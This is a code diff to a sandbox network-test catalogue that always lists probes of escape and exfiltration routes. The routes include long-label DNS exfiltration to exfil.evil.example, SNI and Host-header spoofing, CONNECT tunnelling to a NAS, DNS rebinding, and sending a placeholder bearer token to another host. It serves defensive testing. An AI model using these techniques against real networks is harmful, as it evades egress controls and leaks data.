@@ -180,32 +180,32 @@ def catalogue(ctx: Context) -> list[Probe]:
     )
 
     # -- the LAN: model server, NAS, host --------------------------------------------------------
-    if ctx.world:
-        add(
-            "model server API",
-            "lan",
-            f"http://{MODEL}:8000/v1/models",
-            "http",
-            {"url": f"http://{MODEL}:8000/v1/models"},
-            _expect(p, Protocol.TCP, MODEL, 8000),
-            Match(("conn", "http"), MODEL, 8000),
-            needs_world=True,
-        )
-        for port in (22, 11434):
-            tcp(f"model server port {port}", "lan", MODEL, port, world=True)
-        for port in (22, 445, 2049):
-            tcp(f"NAS {port}/tcp", "lan", NAS, port, world=True)
-        add(
-            "NAS 2049/udp",
-            "lan",
-            f"{NAS}:2049/udp",
-            "udp",
-            {"address": NAS, "port": 2049},
-            _expect(p, Protocol.UDP, NAS, 2049),
-            Match(("conn",), NAS, 2049, by_sport=True),
-            needs_world=True,
-        )
-        tcp("host (LAN router) ssh", "host", ROUTER, 22, world=True)
+    # (test-world probes are always listed; without the test world, prove skips them)
+    add(
+        "model server API",
+        "lan",
+        f"http://{MODEL}:8000/v1/models",
+        "http",
+        {"url": f"http://{MODEL}:8000/v1/models"},
+        _expect(p, Protocol.TCP, MODEL, 8000),
+        Match(("conn", "http"), MODEL, 8000),
+        needs_world=True,
+    )
+    for port in (22, 11434):
+        tcp(f"model server port {port}", "lan", MODEL, port, world=True)
+    for port in (22, 445, 2049):
+        tcp(f"NAS {port}/tcp", "lan", NAS, port, world=True)
+    add(
+        "NAS 2049/udp",
+        "lan",
+        f"{NAS}:2049/udp",
+        "udp",
+        {"address": NAS, "port": 2049},
+        _expect(p, Protocol.UDP, NAS, 2049),
+        Match(("conn",), NAS, 2049, by_sport=True),
+        needs_world=True,
+    )
+    tcp("host (LAN router) ssh", "host", ROUTER, 22, world=True)
     for address in ctx.host_addresses:
         tcp(f"host {address} ssh", "host", address, 22)
 
@@ -244,7 +244,7 @@ def catalogue(ctx: Context) -> list[Probe]:
         None,
         no_log_why="IPv6 is off on the guest's link: no packet can leave",
     )
-    for claim in ([MODEL] if ctx.world else []) + [ctx.gateway]:
+    for claim in [MODEL, ctx.gateway]:
         add(
             f"ARP claim {claim}",
             "l2",
@@ -270,204 +270,204 @@ def catalogue(ctx: Context) -> list[Probe]:
     )
 
     # -- DNS around the gateway ------------------------------------------------------------------
-    if ctx.world:
-        for tcp_dns in (False, True):
-            add(
-                f"DNS to an outside server ({'tcp' if tcp_dns else 'udp'})",
-                "dns",
-                f"{RESOLVER}:53/{'tcp' if tcp_dns else 'udp'}",
-                "dns",
-                {
-                    "server": RESOLVER,
-                    "reverse": "10.0.0.1",
-                    "tcp": tcp_dns,
-                    "expect": "gateway-answers",
-                },
-                _expect(p, Protocol.UDP, RESOLVER, 53),
-                Match(("conn",), RESOLVER, 53),
-                needs_world=True,
-            )
-        tcp("DNS over TLS (853)", "dns", RESOLVER, 853, world=True)
+    # (test-world probes are always listed; without the test world, prove skips them)
+    for tcp_dns in (False, True):
         add(
-            "DNS over HTTPS to a resolver IP",
+            f"DNS to an outside server ({'tcp' if tcp_dns else 'udp'})",
             "dns",
-            f"https://{RESOLVER}/dns-query",
-            "http",
+            f"{RESOLVER}:53/{'tcp' if tcp_dns else 'udp'}",
+            "dns",
             {
-                "url": f"https://{RESOLVER}/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE",
-                "insecure": True,
+                "server": RESOLVER,
+                "reverse": "10.0.0.1",
+                "tcp": tcp_dns,
+                "expect": "gateway-answers",
             },
-            _expect(p, Protocol.TCP, RESOLVER, 443),
-            Match(("http", "conn"), RESOLVER, 443),
+            _expect(p, Protocol.UDP, RESOLVER, 53),
+            Match(("conn",), RESOLVER, 53),
             needs_world=True,
         )
-        add(
-            "rebinding name",
-            "dns",
-            "rebind.example",
-            "dns",
-            {"name": "rebind.example"},
-            _expect(p, Protocol.TCP, NAS, None, "rebind.example"),
-            Match(("dns",), name="rebind.example"),
-            needs_world=True,
-        )
-        exfil = f"{LONG_LABEL}{ctx.nonce}.exfil.evil.example"
-        d = decide_name(p, exfil)
-        add(
-            "long-label DNS exfiltration",
-            "dns",
-            exfil[:24] + "…",
-            "dns",
-            {"name": exfil},
-            (d.verdict.value, d.key),
-            Match(("dns",), name=exfil),
-            needs_world=True,
-            upstream_silent=exfil if not d.allowed else None,
-        )
+    tcp("DNS over TLS (853)", "dns", RESOLVER, 853, world=True)
+    add(
+        "DNS over HTTPS to a resolver IP",
+        "dns",
+        f"https://{RESOLVER}/dns-query",
+        "http",
+        {
+            "url": f"https://{RESOLVER}/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE",
+            "insecure": True,
+        },
+        _expect(p, Protocol.TCP, RESOLVER, 443),
+        Match(("http", "conn"), RESOLVER, 443),
+        needs_world=True,
+    )
+    add(
+        "rebinding name",
+        "dns",
+        "rebind.example",
+        "dns",
+        {"name": "rebind.example"},
+        _expect(p, Protocol.TCP, NAS, None, "rebind.example"),
+        Match(("dns",), name="rebind.example"),
+        needs_world=True,
+    )
+    exfil = f"{LONG_LABEL}{ctx.nonce}.exfil.evil.example"
+    d = decide_name(p, exfil)
+    add(
+        "long-label DNS exfiltration",
+        "dns",
+        exfil[:24] + "…",
+        "dns",
+        {"name": exfil},
+        (d.verdict.value, d.key),
+        Match(("dns",), name=exfil),
+        needs_world=True,
+        upstream_silent=exfil if not d.allowed else None,
+    )
 
     # -- the public side -------------------------------------------------------------------------
-    if ctx.world:
+    # (test-world probes are always listed; without the test world, prove skips them)
+    add(
+        "hardcoded public IP (http)",
+        "internet",
+        f"http://{PUBLIC_IP}/",
+        "http",
+        {"url": f"http://{PUBLIC_IP}/status/200"},
+        _expect(p, Protocol.TCP, PUBLIC_IP, 80),
+        Match(("http", "conn"), PUBLIC_IP, 80),
+        needs_world=True,
+    )
+    add(
+        "ICMP echo to a public IP",
+        "internet",
+        PUBLIC_IP,
+        "icmp",
+        {"address": PUBLIC_IP},
+        _expect(p, Protocol.ICMP, PUBLIC_IP, None),
+        Match(("conn",), PUBLIC_IP, protocol="icmp"),
+        needs_world=True,
+    )
+    add(
+        "NTP",
+        "internet",
+        f"{PROBE_HOST}:123/udp",
+        "udp",
+        {"address": PROBE_HOST, "port": 123},
+        _expect(p, Protocol.UDP, PROBE_HOST, 123),
+        Match(("conn",), PROBE_HOST, 123, by_sport=True),
+        needs_world=True,
+    )
+    add(
+        "QUIC (udp/443)",
+        "internet",
+        f"{PROBE_HOST}:443/udp",
+        "udp",
+        {"address": PROBE_HOST, "port": 443},
+        _expect(p, Protocol.UDP, PROBE_HOST, 443),
+        Match(("conn",), PROBE_HOST, 443, by_sport=True),
+        needs_world=True,
+    )
+    for form, mapped in (("IPv4-mapped", f"::ffff:{NAS}"),):
         add(
-            "hardcoded public IP (http)",
-            "internet",
-            f"http://{PUBLIC_IP}/",
-            "http",
-            {"url": f"http://{PUBLIC_IP}/status/200"},
-            _expect(p, Protocol.TCP, PUBLIC_IP, 80),
-            Match(("http", "conn"), PUBLIC_IP, 80),
-            needs_world=True,
-        )
-        add(
-            "ICMP echo to a public IP",
-            "internet",
-            PUBLIC_IP,
-            "icmp",
-            {"address": PUBLIC_IP},
-            _expect(p, Protocol.ICMP, PUBLIC_IP, None),
-            Match(("conn",), PUBLIC_IP, protocol="icmp"),
-            needs_world=True,
-        )
-        add(
-            "NTP",
-            "internet",
-            f"{PROBE_HOST}:123/udp",
-            "udp",
-            {"address": PROBE_HOST, "port": 123},
-            _expect(p, Protocol.UDP, PROBE_HOST, 123),
-            Match(("conn",), PROBE_HOST, 123, by_sport=True),
-            needs_world=True,
-        )
-        add(
-            "QUIC (udp/443)",
-            "internet",
-            f"{PROBE_HOST}:443/udp",
-            "udp",
-            {"address": PROBE_HOST, "port": 443},
-            _expect(p, Protocol.UDP, PROBE_HOST, 443),
-            Match(("conn",), PROBE_HOST, 443, by_sport=True),
-            needs_world=True,
-        )
-        for form, mapped in (("IPv4-mapped", f"::ffff:{NAS}"),):
-            add(
-                f"{form} form of the NAS",
-                "special ranges",
-                f"[{mapped}]:22",
-                "tcp",
-                {"address": mapped, "port": 22},
-                _expect(p, Protocol.TCP, mapped, 22),
-                Match(("conn",), NAS, 22, by_sport=True),
-                needs_world=True,
-            )
-        add(
-            "NAT64 form of the NAS",
+            f"{form} form of the NAS",
             "special ranges",
-            "[64:ff9b::a4d:14]:22",
+            f"[{mapped}]:22",
             "tcp",
-            {"address": "64:ff9b::a4d:14", "port": 22},
-            _expect(p, Protocol.TCP, "64:ff9b::a4d:14", 22),
-            None,
-            no_log_why="IPv6 is off on the guest's link: no packet can leave",
+            {"address": mapped, "port": 22},
+            _expect(p, Protocol.TCP, mapped, 22),
+            Match(("conn",), NAS, 22, by_sport=True),
             needs_world=True,
         )
+    add(
+        "NAT64 form of the NAS",
+        "special ranges",
+        "[64:ff9b::a4d:14]:22",
+        "tcp",
+        {"address": "64:ff9b::a4d:14", "port": 22},
+        _expect(p, Protocol.TCP, "64:ff9b::a4d:14", 22),
+        None,
+        no_log_why="IPv6 is off on the guest's link: no packet can leave",
+        needs_world=True,
+    )
 
-        # -- names in connections: SNI, Host, CONNECT, proxy variables ---------------------------
+    # -- names in connections: SNI, Host, CONNECT, proxy variables ---------------------------
+    add(
+        "TLS to pypi.org's address naming evil.example (SNI)",
+        "proxy",
+        f"{PYPI}:443 SNI evil.example",
+        "tls",
+        {"address": PYPI, "port": 443, "sni": "evil.example"},
+        _expect(p, Protocol.TCP, PYPI, 443, "evil.example"),
+        Match(("http", "conn"), PYPI, 443, by_sport=True),
+        needs_world=True,
+    )
+    add(
+        "HTTP to pypi.org's address with Host evil.example",
+        "proxy",
+        f"{PYPI}:80 Host evil.example",
+        "http",
+        {"url": f"http://{PYPI}/", "headers": ["Host: evil.example"]},
+        _expect(p, Protocol.TCP, EVIL, 80, "evil.example"),
+        Match(("http",), name="evil.example"),
+        needs_world=True,
+    )
+    add(
+        "CONNECT to the NAS through the proxy",
+        "proxy",
+        f"CONNECT {NAS}:22",
+        "connect",
+        {"proxy": ctx.proxy, "target": f"{NAS}:22"},
+        _expect(p, Protocol.TCP, NAS, 22),
+        Match(("http",), name=NAS, port=22),
+        needs_world=True,
+    )
+    add(
+        "CONNECT to a rebinding name",
+        "proxy",
+        "CONNECT rebind.example:443",
+        "connect",
+        {"proxy": ctx.proxy, "target": "rebind.example:443"},
+        _expect(p, Protocol.TCP, NAS, 443, "rebind.example"),
+        Match(("http",), name="rebind.example", port=443),
+        needs_world=True,
+    )
+    add(
+        "proxy variables unset (evil.example)",
+        "proxy",
+        "http://evil.example/",
+        "http",
+        {"url": "http://evil.example/", "noenv": True},
+        _expect(p, Protocol.TCP, EVIL, 80, "evil.example"),
+        Match(("http", "dns"), name="evil.example"),
+        needs_world=True,
+    )
+    add(
+        "--noproxy to pypi.org",
+        "proxy",
+        "https://pypi.org/ --noproxy",
+        "http",
+        {"url": "https://pypi.org/simple/"},
+        _expect(p, Protocol.TCP, PYPI, 443, "pypi.org"),
+        Match(("http", "conn"), PYPI, 443),
+        needs_world=True,
+    )
+    if ctx.placeholder:
+        # To the model server, which every mode lets through: only the placeholder check
+        # can stop this request.
         add(
-            "TLS to pypi.org's address naming evil.example (SNI)",
-            "proxy",
-            f"{PYPI}:443 SNI evil.example",
-            "tls",
-            {"address": PYPI, "port": 443, "sni": "evil.example"},
-            _expect(p, Protocol.TCP, PYPI, 443, "evil.example"),
-            Match(("http", "conn"), PYPI, 443, by_sport=True),
-            needs_world=True,
-        )
-        add(
-            "HTTP to pypi.org's address with Host evil.example",
-            "proxy",
-            f"{PYPI}:80 Host evil.example",
+            "placeholder credential to another host",
+            "credentials",
+            f"http://{MODEL}:8000/v1/models",
             "http",
-            {"url": f"http://{PYPI}/", "headers": ["Host: evil.example"]},
-            _expect(p, Protocol.TCP, EVIL, 80, "evil.example"),
-            Match(("http",), name="evil.example"),
+            {
+                "url": f"http://{MODEL}:8000/v1/models",
+                "proxy": ctx.proxy,
+                "headers": [f"Authorization: Bearer {ctx.placeholder}"],
+            },
+            ("deny", "deny.exfiltration"),
+            Match(("http",), name=MODEL),
             needs_world=True,
         )
-        add(
-            "CONNECT to the NAS through the proxy",
-            "proxy",
-            f"CONNECT {NAS}:22",
-            "connect",
-            {"proxy": ctx.proxy, "target": f"{NAS}:22"},
-            _expect(p, Protocol.TCP, NAS, 22),
-            Match(("http",), name=NAS, port=22),
-            needs_world=True,
-        )
-        add(
-            "CONNECT to a rebinding name",
-            "proxy",
-            "CONNECT rebind.example:443",
-            "connect",
-            {"proxy": ctx.proxy, "target": "rebind.example:443"},
-            _expect(p, Protocol.TCP, NAS, 443, "rebind.example"),
-            Match(("http",), name="rebind.example", port=443),
-            needs_world=True,
-        )
-        add(
-            "proxy variables unset (evil.example)",
-            "proxy",
-            "http://evil.example/",
-            "http",
-            {"url": "http://evil.example/", "noenv": True},
-            _expect(p, Protocol.TCP, EVIL, 80, "evil.example"),
-            Match(("http", "dns"), name="evil.example"),
-            needs_world=True,
-        )
-        add(
-            "--noproxy to pypi.org",
-            "proxy",
-            "https://pypi.org/ --noproxy",
-            "http",
-            {"url": "https://pypi.org/simple/"},
-            _expect(p, Protocol.TCP, PYPI, 443, "pypi.org"),
-            Match(("http", "conn"), PYPI, 443),
-            needs_world=True,
-        )
-        if ctx.placeholder:
-            # To the model server, which every mode lets through: only the placeholder check
-            # can stop this request.
-            add(
-                "placeholder credential to another host",
-                "credentials",
-                f"http://{MODEL}:8000/v1/models",
-                "http",
-                {
-                    "url": f"http://{MODEL}:8000/v1/models",
-                    "proxy": ctx.proxy,
-                    "headers": [f"Authorization: Bearer {ctx.placeholder}"],
-                },
-                ("deny", "deny.exfiltration"),
-                Match(("http",), name=MODEL),
-                needs_world=True,
-            )
 
     # -- the sandbox itself ----------------------------------------------------------------------
     for pid, command in (
